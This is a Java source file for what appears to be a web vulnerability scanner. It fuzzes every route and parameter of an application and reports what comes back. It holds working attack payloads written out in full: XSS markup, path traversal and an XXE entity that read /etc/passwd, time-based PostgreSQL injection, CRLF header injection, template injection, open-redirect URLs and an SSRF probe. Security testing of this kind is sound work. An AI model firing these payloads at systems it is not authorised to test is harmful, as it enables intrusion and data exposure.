package lianqiao.attack;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Pattern;
import lianqiao.attack.Finding.Kind;

/**
 * Puts hostile text into every parameter and every free place of every route, by GET and by POST, and looks at what comes
 * back: markup that was not escaped, addresses of elsewhere, files of the machine, traces of the program, sleeping
 * databases, calls to a listener of our own.
 */
public final class Sweep implements AutoCloseable {
    /** Names that pages of any program read, besides those that a route declares. */
    private static final List<String> USUAL = List.of("q", "to", "name", "url", "file", "id", "text", "after", "page", "lang");
    private static final String MARK = "lqmark7q";
    private static final Pattern TRACE = Pattern.compile("\\bat [a-z]+(\\.[\\w$]+)+\\([A-Z]\\w*\\.java:\\d+\\)|\\b(java|org\\.springframework|lianqiao)\\.[\\w.]+Exception|SQLSTATE|PSQLException|syntax error at or near");
    private static final String SLEEP = "x' OR (SELECT 1 FROM pg_sleep(0.7)) IS NOT NULL --";

    private final Web web;
    private final List<Route> routes;
    private final Set<String> skipped;
    private final HttpServer listener;
    private final AtomicReference<String> called = new AtomicReference<>("");
    private final Collection<Finding> findings = new LinkedHashSet<>();
    private long requests;

    /** @param skipped patterns that are not to be touched, such as signing out */
    public Sweep(Web web, List<Route> routes, Set<String> skipped) {
        this.web = web;
        this.routes = routes;
        this.skipped = skipped;
        try {
            listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
            listener.createContext("/", exchange -> {
                called.set(exchange.getRequestURI().getPath());
                exchange.sendResponseHeaders(204, -1);
                exchange.close();
            });
            listener.start();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Everything found so far, each once. */
    public List<Finding> run() throws IOException, InterruptedException {
        for (var route : routes) {
            if (skipped.contains(route.pattern())) continue;
            texts(route);
            if (!route.isGet()) bodies(route);
        }
        return List.copyOf(findings);
    }

    public long requests() {
        return requests;
    }

    private void texts(Route route) throws IOException, InterruptedException {
        var payloads = payloads();
        var names = new LinkedHashSet<>(route.parameters());
        names.addAll(USUAL);
        for (var payload : payloads) {
            for (int place = 0; place < route.places(); place++) take(route, payload, send(route, route.filled(place, payload), Map.of()));
            if (route.parameters().isEmpty()) {
                var all = new LinkedHashMap<String, String>();
                names.forEach(name -> all.put(name, payload));
                take(route, payload, send(route, route.filled(-1, ""), all));
            } else {
                for (var name : route.parameters()) take(route, payload, send(route, route.filled(-1, ""), Map.of(name, payload)));
            }
        }
    }

    private List<String> payloads() {
        var own = "http://127.0.0.1:" + listener.getAddress().getPort() + "/" + MARK;
        return List.of("<" + MARK + ">\"'&", "//elsewhere.example/" + MARK, "https://elsewhere.example/" + MARK, "../../../../../../../../etc/passwd", SLEEP, own,
                MARK + "\r\nX-Lq: " + MARK, "${7*7}#{7*7}{{7*7}}", "\0\uD83D\uDE00\u202e" + "9".repeat(40), "-1");
    }

    private Web.Answer send(Route route, String path, Map<String, String> fields) throws IOException, InterruptedException {
        requests++;
        if (!route.isGet()) return web.post(path, fields);
        var query = new StringBuilder();
        fields.forEach((name, value) -> query.append(query.isEmpty() ? "?" : "&").append(Web.coded(name)).append('=').append(Web.coded(value)));
        return web.get(path + query);
    }

    /** XML with an entity of the machine, a web page as a file, and more than anybody should send. */
    private void bodies(Route route) throws IOException, InterruptedException {
        var path = route.filled(-1, "");
        var xml = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><a>&f;</a>";
        requests += 3;
        take(route, "xml", web.post(path, "application/xml", xml.getBytes(StandardCharsets.UTF_8)));
        var page = "<html><script>" + MARK + "</script>";
        var upload = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.html\"\r\nContent-Type: text/html\r\n\r\n" + page + "\r\n--b--\r\n";
        var answer = web.post(path, "multipart/form-data; boundary=b", upload.getBytes(StandardCharsets.UTF_8));
        if (answer.isHtml() && answer.body().contains(page)) add(Kind.UPLOAD, route, "what was sent comes back as a page");
        var large = web.post(path, "application/octet-stream", new byte[24 * 1024 * 1024]);
        if (large.status() < 300) add(Kind.SIZE, route, "24 MB are taken with " + large.status());
    }

    private void take(Route route, String payload, Web.Answer answer) {
        var body = answer.body();
        var location = answer.header("Location");
        if (answer.status() >= 500 && answer.status() != 503) add(Kind.TRACE, route, "status " + answer.status() + " for " + printable(payload));
        if (answer.isHtml() && body.contains("<" + MARK + ">")) add(Kind.XSS, route, "markup is not escaped");
        if (location.matches("(?i)(https?:)?[/\\\\]{2}elsewhere.*") || body.matches("(?s).*(href|action|src|content)=\"(\\d+;url=)?(https?:)?//elsewhere.*")) add(Kind.REDIRECT, route, "leads elsewhere: " + location);
        if (body.contains("root:x:0:0:")) add(payload.equals("xml") ? Kind.XXE : Kind.TRAVERSAL, route, "shows a file of the machine");
        if (answer.headers().entrySet().stream().anyMatch(h -> !h.getKey().equalsIgnoreCase("location") && h.getValue().stream().anyMatch(v -> v.contains(MARK)))) add(Kind.HEADER, route, "a text stands in a header");
        if (TRACE.matcher(body).find()) add(Kind.TRACE, route, "shows how the program is made: " + TRACE.matcher(body).results().findFirst().orElseThrow().group());
        if (payload.equals(SLEEP) && answer.millis() >= 700) add(Kind.SQL, route, "the database slept for " + answer.millis() + " ms");
        if (called.getAndSet("").contains(MARK)) add(Kind.SSRF, route, "the program called an address it was given");
    }

    private void add(Kind kind, Route route, String what) {
        findings.add(new Finding(kind, route.toString(), what));
    }

    private static String printable(String text) {
        return text.length() > 30 ? text.substring(0, 30) + "…" : text;
    }

    @Override public void close() {
        listener.stop(0);
    }
}
